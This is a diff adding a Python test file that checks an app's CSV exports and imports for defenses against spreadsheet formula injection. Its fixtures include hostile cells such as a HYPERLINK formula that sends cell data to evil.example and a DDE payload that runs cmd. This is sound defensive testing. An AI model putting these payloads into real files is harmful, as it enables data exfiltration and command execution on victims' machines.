@@ -1,0 +1,124 @@
+"""CSV formula injection (CWE-1236): every CSV Sotong writes (subscribers
+export, sms.csv, the annual report, survey results) neutralizes cells a
+spreadsheet would run as formulas, reading them back undoes it, and import
+refuses ids that start like a formula."""
+
+from __future__ import annotations
+
+import csv
+import re
+from pathlib import Path
+
+from conftest import REPO, copy_project, run_sotong
+from delivery_support import run_cli
+from hypothesis import given, settings, strategies as st
+
+from sotong.project import Project
+from sotong.spreadsheet import FORMULA_STARTS, neutralized, restored
+from sotong.store import Store, Subscriber
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"보기")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+           "\t=1+1", "\r=1+1", "'=1+1", "''+1"]
+cells = st.text(alphabet=st.sampled_from("=+-@\t\r' a1가,\""), max_size=8) | st.text(max_size=8)
+
+
+@given(cells)
+@settings(max_examples=300)
+def test_neutralized_against_a_reading_of_owasp(text):
+    """A cell is changed iff, past its leading quotes, it starts with = + - @ tab or CR;
+    then it gets one quote more; nothing written starts like a formula; reading undoes it."""
+    formula_like = text.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r") and text.lstrip("'") != ""
+    assert neutralized(text) == ("'" + text if formula_like else text)
+    assert not neutralized(text).startswith(FORMULA_STARTS)
+    assert restored(neutralized(text)) == text
+
+
+def test_numbers_stay_numbers():
+    assert neutralized(-3) == -3 and neutralized(0.25) == 0.25
+
+
+def read_csv(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
+    with open(path, encoding=encoding, newline="") as file:
+        return list(csv.reader(file))
+
+
+SUBSCRIBERS = """id,name,email,phone,birth_year,gender,dong,fields,channels,kind,business_type,subscribed_at,unsubscribed_at
+S1,"=HYPERLINK(""http://evil.example"",""보기"")",=cmd@example.com,+82 10 1234 5678,1970,F,yongdap,culture,email;sms,person,,2026-01-02,
+S2,@SUM(1),-dash@example.com,'+82 10 2222 3333,1980,M,yongdap,culture,email;sms,person,,,
+S3,'=1+1,s3@example.com,010-3333-4444,1990,F,yongdap,culture,email,person,,,
+=1+1,김수상,x1@example.com,,1970,F,yongdap,culture,email,person,,,
+@cmd,김수상,x2@example.com,,1970,F,yongdap,culture,email,person,,,
+-7,김수상,x3@example.com,,1970,F,yongdap,culture,email,person,,,
++7,김수상,x4@example.com,,1970,F,yongdap,culture,email,person,,,
+'=2+2,김수상,x5@example.com,,1970,F,yongdap,culture,email,person,,,
+"""
+
+
+def test_subscribers_export_neutralizes_and_import_round_trips(tmp_path):
+    project = copy_project(tmp_path)
+    (tmp_path / "in.csv").write_text(SUBSCRIBERS, encoding="utf-8")
+    imported = run_sotong(project, "subscribers", "import", str(tmp_path / "in.csv"))
+    assert imported.code == 1
+    rejected = [line for line in imported.stderr.splitlines() if "a spreadsheet runs as a formula" in line]
+    assert [int(re.match(r".*in\.csv:(\d+):", line).group(1)) for line in rejected] == [5, 6, 7, 8, 9]
+    assert 'id "=2+2" starts with "="' in imported.stderr  # a quoted formula id is still one
+    assert "3 added, 0 updated, 0 unchanged, 5 rejected" in imported.stdout
+    store = Store.open(project / "private" / "sotong.db")
+    stored = {row[0]: row[1:] for row in store.db.execute("SELECT id, name, email, phone FROM subscribers")}
+    store.close()
+    assert stored == {"S1": ('=HYPERLINK("http://evil.example","보기")', "=cmd@example.com", "010-1234-5678"),
+                      "S2": ("@SUM(1)", "-dash@example.com", "010-2222-3333"),
+                      "S3": ("=1+1", "s3@example.com", "010-3333-4444")}
+
+    assert run_sotong(project, "subscribers", "export", str(tmp_path / "out.csv")).code == 0
+    rows = {row[0]: row for row in read_csv(tmp_path / "out.csv")[1:]}
+    assert rows["S1"][1:4] == ['\'=HYPERLINK("http://evil.example","보기")', "'=cmd@example.com", "010-1234-5678"]
+    assert rows["S2"][1:3] == ["'@SUM(1)", "'-dash@example.com"] and rows["S3"][1] == "'=1+1"
+    assert not any(cell.startswith(FORMULA_STARTS) for row in rows.values() for cell in row)
+    again = run_sotong(project, "subscribers", "import", str(tmp_path / "out.csv"))
+    assert again.code == 0 and "0 added, 0 updated, 3 unchanged, 0 rejected" in again.stdout
+
+
+def test_sms_csv_neutralizes_and_send_reads_it_back(tmp_path):
+    project = copy_project(tmp_path, extra_settings='BUNDLES = {"sms_header": "=1+1 성동"}')
+    store = Store.open(project / "private" / "sotong.db")
+    for subscriber_id in ("-S1", "S2"):  # "-S1": an id stored before import refused such ids
+        store.put_subscriber(Subscriber(id=subscriber_id, phone="010-1234-5678", birth_year=1970, dong="yongdap",
+                                        fields=frozenset({"living", "survey"}), channels=frozenset({"sms"})))
+    store.close()
+    assert run_cli(project / "pelicanconf.py", "bundles", "--issue", "2026-11-26").code == 0
+    outbox = project / "private" / "outbox" / "2026-11-26"
+    rows = read_csv(outbox / "sms.csv", encoding="utf-8")
+    assert rows[0] == ["id", "phone", "type", "bytes", "text"]
+    assert sorted(row[0] for row in rows[1:]) == ["'-S1", "S2"]
+    assert all(row[4].startswith("'=1+1 성동") for row in rows[1:])
+    from delivery.outbox import read_outbox
+
+    messages = read_outbox(Project(project / "pelicanconf.py").settings, "2026-11-26", "issue", str).messages
+    assert sorted(m.subscriber_id for m in messages if m.channel == "sms") == ["-S1", "S2"]
+
+
+def test_the_annual_report_csv_neutralizes_names(tmp_path):
+    from delivery.annual import annual_report, write_report
+
+    report = annual_report(2026, [("2026-03", "EMAIL", "a", '=HYPERLINK("x")', "culture", "-2+3", 4)])
+    _html, csv_path = write_report(report, tmp_path, "성동구 소통")
+    rows = read_csv(csv_path)
+    assert ["department", '\'=HYPERLINK("x")', "1", "4", "0", "0", "4"] in rows
+    assert ["category", "'-2+3", "1", "4", "0", "0", "4"] in rows
+
+
+def test_survey_results_csv_neutralizes_options(tmp_path):
+    from survey.results import Results, QuestionResult, Row, write_csv
+
+    results = Results("s", "설문", 2, 2, (QuestionResult("pick", "single", "고르기", (
+        Row("=1+1", 1, 0.5), Row("@cmd", 1, 0.5))),))
+    write_csv(tmp_path / "results.csv", results)
+    rows = read_csv(tmp_path / "results.csv")
+    assert rows[1:] == [["pick", "'=1+1", "1", "0.5000"], ["pick", "'@cmd", "1", "0.5000"]]
+
+
+def test_every_csv_writer_goes_through_the_shared_helper():
+    writers = [path.relative_to(REPO) for folder in ("sotong", "plugins") for path in (REPO / folder).rglob("*.py")
+               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
+    assert [str(path) for path in writers] == ["sotong/spreadsheet.py"]
